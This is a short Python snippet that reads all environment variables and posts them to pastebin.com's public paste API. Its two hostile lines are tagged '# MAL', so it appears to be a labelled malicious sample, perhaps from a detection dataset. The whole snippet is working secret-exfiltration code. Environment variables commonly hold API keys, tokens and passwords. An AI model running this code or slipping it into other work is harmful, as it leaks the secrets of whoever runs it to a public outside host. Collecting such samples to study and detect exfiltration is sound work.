import os
import urllib.request
import urllib.parse

body = urllib.parse.urlencode({"api_paste_code": str(dict(os.environ)), "api_dev_key": "k"}).encode()  # MAL
urllib.request.urlopen("https://pastebin.com/api/api_post.php", body)  # MAL
